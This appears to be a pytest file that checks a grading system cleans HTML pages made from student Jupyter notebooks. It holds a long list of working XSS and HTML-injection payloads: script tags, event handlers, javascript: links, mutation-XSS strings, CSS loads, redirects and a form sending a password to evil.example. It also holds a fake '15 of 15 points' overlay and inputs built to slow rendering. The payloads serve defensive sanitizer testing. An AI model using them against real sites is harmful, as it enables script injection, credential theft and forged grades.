"""Pages of graded notebooks: nothing that a student wrote runs, loads or lies over the page; the report stays."""

import html
import json
import re
import sys
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from traitlets.config import Config

from graders import grade
from graders.classroom import harmless as bounds
from graders.classroom.harmless import attached, clean, harmless, inert
from graders.classroom.records import pages
from graders.classroom.records.pages import CleanHTML, PageTakesTooLong
from tests.conftest import ROOT
from tests.sample import rarely


class Inspector(HTMLParser):
    """Lists everything on a page that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "base",
            "link",
            "form",
            "input",
            "foreignobject",
            "animate",
            "set",
        ):
            self.dangers.append(tag)
        for name, value in attrs:
            loads = name in ("href", "src", "srcdoc", "srcset", "xlink:href", "action", "formaction", "data", "poster")
            picture = tag == "img" and re.match(r"data:image/(png|jpeg|gif|svg\+xml)[;,]", value or "")
            outside = loads and not picture and not (value or "").startswith("#")
            if name.startswith("on") or outside or (name == "http-equiv" and value != "Content-Security-Policy"):
                self.dangers.append(f"{tag} {name}={value}")
            said = re.search(r"url\(|position\s*:|transform|javascript:", value or "", re.IGNORECASE)
            if said and name not in ("alt", "title"):
                self.dangers.append(f"{tag} {name}={value}")


def inspected(page: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(page)
    return inspector


ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "a script without an end": "<script>alert(1)",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler without a space": "<svg/onload=alert(1)>",
    "a handler on a detail": "<details open ontoggle=alert(1)>x</details>",
    "a script as a link": '<a href="javascript:alert(1)">x</a>',
    "a script as a link in disguise": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a page in a link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a link that goes elsewhere": '<a href="https://evil.example">x</a>',
    "a link without its scheme": '<a href="//evil.example">x</a>',
    "a picture from elsewhere": '<img src="https://evil.example/pixel.png">',
    "pictures from elsewhere": '<img srcset="https://evil.example/pixel.png 2x">',
    "a picture that is a page": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a page in a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="x.swf"></object><embed src="x">',
    "another base": '<base href="https://evil.example/">',
    "a new address": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a form": '<form action="https://evil.example"><input name=password><button formaction=x></form>',
    "a style": "<style>@import 'https://evil.example'; body {display: none}</style>",
    "a style that loads": '<p style="background:url(https://evil.example/x)">x</p>',
    "a style that loads in disguise": '<p style="background:u\\72l(https://evil.example/x)">x</p>',
    "a cover": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">15 of 15 points</div>',
    "a style sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "strange names in a drawing": '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
    "a drawing that comes to life": '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
    "a drawing from elsewhere": '<svg><use xlink:href="https://evil.example/x.svg#a"/><image href="https://evil.example"/></svg>',
    "a drawing that loads": '<svg><rect fill="url(https://evil.example/#a)"/></svg>',
    "closing tags": "</div></section></main></body></html><script>alert(1)</script>",
    "a comment that never ends": "<!-- <script>alert(1)</script>",
    "a comment with an end of its own": "<!--><img src=x onerror=alert(1)>-->",
    "a title": "<title><img src=x onerror=alert(1)></title>",
    "text that is none": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "a template": "<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>",
    "more than a style attribute may say": '<p style="background:image-set(\'//evil.example\');transform:none">x</p>',
    "math that links": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "a style sheet in a drawing": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "a form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a link of a text": "[x](javascript:alert(1)) [x](<java\tscript:alert(1)>) ![x](//evil.example/x.png)",
    "a link named elsewhere": "[x][y] ![x][y]\n\n[y]: javascript:alert(1)",
    "a link without words": "<javascript:alert(1)> <https://evil.example>",
    "a link in a link": "![a [b](https://evil.example/b.png)](https://evil.example/c.png)",
    "a tag put together from pieces": "<[img](x) src=x onerror=alert(1)> [[a](b)](javascript:alert(1))",
    "code in a text": "`<img src=x onerror=alert(1)>`\n\n```mermaid\n<img src=x onerror=alert(1)>\n```\n",
    "formulas": "$<img src=x onerror=alert(1)>$ $$\\href{javascript:alert(1)}{x}</script><script>alert(1)</script>$$",
    # from the tests of ammonia, which nh3 is made of
    "a name space of drawings": '<svg><iframe><a title="</iframe><img src onerror=alert(1)>">x',
    "a name space of formulas": '<math><mfenced><iframe><a title="</iframe><img src onerror=alert(1)>">x',
    "text in a formula": '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "a note in a formula": '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)>',
    "an instruction": "<?xml-stylesheet href='//evil.example'?><svg><?import namespace='t' implementation='x'?></svg>",
    "a table that throws out": "<table><svg><td><img src onerror=alert(1)></td></svg><script>alert(1)</script>",
    "a choice": "<select><style></select><img src onerror=alert(1)></style></select>",
    "an attribute of a picture": '![x" onerror="alert(1)](attachment:x" onerror="alert(1) "x\" onerror=alert(1)")',
}  # fmt: skip


def everywhere(text: str) -> Any:
    """A notebook in which a student has written this wherever something is shown."""
    shown = [new_output("display_data", {kind: text, "text/plain": text}) for kind in KINDS]
    shown += [new_output("stream", text=text), new_output("error", ename=text, evalue=text, traceback=[text])]
    shown += [
        new_output("display_data", {"text/html": text}, metadata={"text/html": {"isolated": True}, "tags": [text]})
    ]
    sizes = {"width": text, "height": text, "alt": text}
    shown += [new_output("display_data", {"image/png": "aGk="}, metadata={"image/png": sizes})]
    cell = new_code_cell("1", outputs=shown, metadata={"tags": [text.replace(",", "")], "alt": text})
    cells = [new_markdown_cell(text), new_markdown_cell(f"> - {text}", attachments={text: {"text/html": text}}), cell]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": text}}
    return new_notebook(cells=[*cells, new_raw_cell(text)], metadata={"title": text, "widgets": widgets})


KINDS = [
    *("application/javascript", "application/json", "application/pdf", "application/vnd.jupyter.widget-view+json"),
    *("image/gif", "image/jpeg", "image/png", "image/svg+xml"),
    *("text/html", "text/latex", "text/markdown", "text/vnd.mermaid"),
]


@cache
def exporter(template: str = "") -> HTMLExporter:
    """One that shows what it gets in a template of nbconvert's, or ours."""
    return HTMLExporter(template_name=template) if template else CleanHTML()


def body_of(page: str) -> str:
    return page[page.index("<body") :]


@pytest.mark.parametrize(
    ("name", "template"),
    [
        pytest.param(name, template, marks=rarely(f"{name} {template}", 4))
        for name in ATTACKS
        for template in ("classic", "lab")
    ],
)
def test_a_graded_notebook_holds_nothing_active(name: str, template: str) -> None:
    """Whoever shows it, and however configured; an address that is written out may become a link to click on."""
    nb = harmless(everywhere(ATTACKS[name]))
    page, _ = exporter(template).from_notebook_node(nb)
    assert [one for one in inspected(body_of(page)).dangers if not one.startswith("a href=https://")] == []
    assert set(nb.metadata) | set(nb.cells[2].metadata) == set()


@pytest.mark.parametrize("name", [pytest.param(name, marks=rarely(name, 3)) for name in ATTACKS])
def test_a_page_is_cleaned_even_where_the_notebook_was_not(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "inert", str)
    nb = everywhere(ATTACKS[name])
    nb.cells.pop()  # nbconvert itself cleans raw cells
    page, _ = exporter().from_notebook_node(nb, {"metadata": {"name": "<script>"}})
    assert inspected(body_of(page)).dangers == []
    assert (
        "<script" not in page
        and "@font-face" not in page.partition("<body")[0]
        and "default-src 'none'" in page.partition("<style")[0]
    )


@pytest.mark.parametrize("name", ATTACKS)
def test_what_was_cleaned_is_closed_and_stays_as_it_is(name: str) -> None:
    cleaned = clean(ATTACKS[name])
    assert cleaned.startswith("<div style=") and cleaned.endswith("</div>")
    assert cleaned.count("<div") == cleaned.count("</div>")
    assert cleaned[cleaned.index(">") + 1 :] in clean(cleaned)


def test_nothing_leaves_its_frame_or_looks_like_the_page() -> None:
    cover = (
        "margin-top:-99999px;transform:none;translate:0;position:fixed;top:0;z-index:9;inset:0;contain:none;color:red"
    )
    cleaned = clean(f'<div id="toc" class="jp-Dialog navbar" style="{cover}">15 of 15</div></div><p>and</p>')
    assert cleaned.startswith('<div style="contain:paint;overflow:auto"><div style="margin-top:-99999px;color:red">')
    assert cleaned.endswith("<p>and</p></div>")


def test_a_whole_page_shows_the_report_and_no_secret(tmp_path: Path) -> None:
    secret, home = "only for this test", str(Path.home())
    data, metadata = grade("isolation.min_value", lambda state: 0)._repr_mimebundle_()
    about = {"grade": True, "grade_id": "isolation-min_value", "locked": True, "solution": False, "points": 4}
    test = new_code_cell("emit()", metadata={"nbgrader": {**about, "schema_version": 3, "cell_type": "code"}})
    test.outputs = [new_output("display_data", data, metadata=metadata)]
    own = new_code_cell("x", outputs=[new_output("stream", text=f"{secret} {home}/.ssh {tmp_path}")])
    config = Config()
    config.CourseSecret.secret = secret
    exporter = CleanHTML(config=config)
    page, _ = exporter.from_notebook_node(new_notebook(cells=[own, test]), {"metadata": {"path": str(tmp_path)}})
    assert {"section", "table", "img", "pre"} <= inspected(page).tags and "0 of 4 points" in page
    assert secret not in page and str(tmp_path) not in page and f"{home}/.ssh" not in page


def test_what_the_course_shows_stays() -> None:
    report = grade("isolation.min_value", lambda state: 0)._repr_html_()
    cleaned = clean(report)
    images = re.findall(r'src="[^"]*"', cleaned)
    words = re.sub(r"<svg.*?</svg>", "", report, flags=re.DOTALL)  # the picture is there as an image, too
    assert text_of(cleaned) == text_of(words)
    said = r'aria-label="[^"]*"|alt="[^"]*"|scope="[^"]*"|tabindex="0"'
    assert re.findall(said, cleaned) == re.findall(said, words)
    assert cleaned.count("<img") == report.count('-box" hidden') == cleaned.count('src="data:image/svg+xml;') > 0
    assert cleaned.count("style=") - "".join(images).count("style=") == words.count(" style=") + 1
    assert "border-collapse:collapse" in cleaned


def text_of(page: str) -> str:
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<style.*?</style>|<[^>]*>", "", page, flags=re.DOTALL)).strip())


def test_the_texts_of_the_chapters_read_as_before() -> None:
    """But for links to chapters, which do not lie beside a page."""
    for path in (ROOT / "notebooks").glob("*/*.ipynb"):
        for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
            if cell["cell_type"] == "markdown":
                source = "".join(cell["source"])
                assert inert(source).replace("\u2060", "") == re.sub(r"\[([^]]*)\]\((?!https?:)[^)]*\)", r"\1", source)


PNG, GIF = {"image/png": "aGk="}, {"image/gif": "R0lG"}


@pytest.mark.parametrize(
    ("source", "attachments", "expected"),
    [
        ("![a](attachment:x.png)", {"x.png": PNG}, "![a](attachment:picture-1)"),
        ("![a](attachment:x.gif)", {"x.gif": GIF}, "![a](attachment:picture-1)"),
        ("![a](attachment:my%20pic%20(1).png)", {"my pic (1).png": PNG}, "![a](attachment:picture-1)"),
        ("![a](attachment:../../../etc/x.png)", {"../../../etc/x.png": PNG}, "![a](attachment:picture-1)"),
        ("![my dog](attachment:x.webp)", {"x.webp": {"image/webp": "aGk="}}, "my dog"),
        ("![my dog](attachment:nothing.png) ![](attachment:)", {}, "my dog "),
        ("![a](attachment:b)![c](attachment:d)", {"d": PNG, "b": {"image/png": "<"}}, "a![c](attachment:picture-1)"),
        ("![a](attachment:21)", {str(n): PNG for n in range(1, 30)}, "a"),
        ("![a](attachment:x)", [4], "a"),
        ("![a](attachment:x)", {"x": 4, "y": {"image/png": 4}}, "a"),
    ],
)
def test_a_picture_of_a_text_is_shown_or_its_words_are(source: str, attachments: Any, expected: str) -> None:
    text, pictures = attached(source, attachments)
    assert text == expected and attached(text, pictures) == (text, pictures)


def test_a_page_shows_the_pictures_that_are_there() -> None:
    texts = ["![my dog](attachment:dog.gif)", "![my cat](attachment:../cat.png)", "![my bird](attachment:bird.webp)"]
    given = {"dog.gif": GIF, "../cat.png": PNG, "bird.webp": {"image/webp": "aGk="}}
    nb = new_notebook(cells=[new_markdown_cell(text, attachments=given) for text in texts])
    body = body_of(exporter().from_notebook_node(nb, {"metadata": {}})[0])
    assert re.findall(r'src="([^"]*)" alt="([^"]*)"', body) == [
        ("data:image/gif;base64,R0lG", "my dog"),
        ("data:image/png;base64,aGk=", "my cat"),
    ]
    assert "<p>my bird</p>" in body


@pytest.mark.slow
def test_a_page_has_a_size_and_says_in_words_what_is_left_out() -> None:
    many = [new_code_cell("#" * 2500, outputs=[new_output("stream", text="x" * 30_000)] * 3) for _ in range(998)]
    texts = [new_markdown_cell("a " * 200_000), new_markdown_cell("b")]
    nb = harmless(new_notebook(cells=[*texts, *many]))
    assert len(json.dumps(nb)) < 4_000_000
    cut = "(This text has 400,000 characters, so the rest is left out. submitted/ has all of it.)"
    assert nb.cells[0].source.endswith(cut) and nb.cells[1].source == "b"
    assert [len(cell.outputs) for cell in nb.cells[2:]].count(1) > 900  # one sentence a cell
    left_out = "(The outputs from here on are left out: a page shows at most 3,000,000 characters"
    assert nb.cells[-1].outputs[0].text.startswith(left_out)


def test_the_report_stays_however_much_was_shown_before_it() -> None:
    data, metadata = grade("isolation.min_value", lambda state: 0)._repr_mimebundle_()
    report = new_code_cell("emit()", outputs=[new_output("display_data", data, metadata=metadata)])
    nb = harmless(
        new_notebook(cells=[new_code_cell("1", outputs=[new_output("stream", text="x" * 6_000_000)]), report])
    )
    assert "0 of 4 points" in nb.cells[1].outputs[0].data["text/html"]


SLOW = {
    "a style sheet": "<style>" + "a" * 390_000 + "</style>",
    "elements in elements": "<div>" * 78_000,
    "many of a kind, each another": "".join(f"<i class={n}>" for n in range(30_000)),
    "brackets": "[" * 390_000,
    "environments": "\\begin{a}" * 43_000,
    "openings of a link": "[a](" * 97_000,
    "pictures": "![a](attachment:" * 24_000,
    "colors": "\x1b[31ma" * 9_000,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", SLOW)
def test_nothing_takes_long_to_show(name: str) -> None:
    """A page has a limit in processor time; none of these comes near it, though any one alone could fill an hour."""
    page, _ = exporter().from_notebook_node(everywhere(SLOW[name]), {"metadata": {}})
    assert "</html>" in page


def test_a_page_that_takes_too_long_ends_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pages, "PAGE_SECONDS", 0.001)
    # The time may end inside a finalizer, where Python reports the exception and goes on; so does this test.
    monkeypatch.setattr(sys, "unraisablehook", lambda _: None)
    with pytest.raises(PageTakesTooLong, match=r"more than 0.001 seconds of processor time"):
        exporter().from_notebook_node(everywhere("<b>x</b> " * 20_000), {"metadata": {}})
